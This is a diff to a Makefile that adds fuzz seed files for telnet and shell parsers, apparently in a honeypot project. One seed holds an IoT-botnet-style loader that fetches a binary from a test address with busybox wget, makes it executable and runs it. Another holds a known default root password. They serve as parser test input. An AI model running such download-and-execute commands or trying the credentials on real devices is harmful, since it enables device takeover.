@@ -79,6 +79,11 @@ fuzz: $(FUZZ)/build.ninja build
 	@printf '198.18.0.0/15,2001:db8::/32' >var/fuzz/seed/fuzz_text/cidr
 	@printf '/api/v1/timeseries\0proto\0tcp\0port\0002323\0res\00060' >var/fuzz/seed/fuzz_params/ts
 	@printf '1.0.0.0,1.0.0.255,13335,"Cloudflare, Inc."\n' >var/fuzz/seed/fuzz_text/asn
+	@mkdir -p var/fuzz/seed/fuzz_telnet var/fuzz/seed/fuzz_shell
+	@printf '\377\373\037\377\372\037\000\120\000\030\377\360root\r\nxc3511\r\000' >var/fuzz/seed/fuzz_telnet/naws
+	@printf "Scd /tmp; echo -ne '\\\\x7f\\\\x45' >> upnp; while read i; do echo \$$i; done < /proc/mounts\n/bin/busybox wget http://198.18.0.1/x -O - > d; chmod 777 d; ./d\n(cat .s || cp /bin/echo .s); dd bs=52 count=1 if=.s\n" >var/fuzz/seed/fuzz_shell/loader
+	@cp data/personas/router-mips.persona var/fuzz/seed/fuzz_shell/persona && sed -i '1s/^/P/' var/fuzz/seed/fuzz_shell/persona
+	@(printf U; cat data/lure/userdb.txt) >var/fuzz/seed/fuzz_shell/userdb
 	@printf '\0\0\0\0\0\0\0\0\0\0\0\0\10\0\105\0\0\50\0\1\0\0\100\6\0\0\1\2\3\4\306\22\0\1\0\1\0\27\306\22\0\1\0\0\0\0\120\2\20\0\0\0\0\0' >var/fuzz/seed/fuzz_decode/syn
 	@for t in $(FUZZ)/fuzz/fuzz_*; do \
 	    [ -f $$t ] && [ -x $$t ] || continue; \
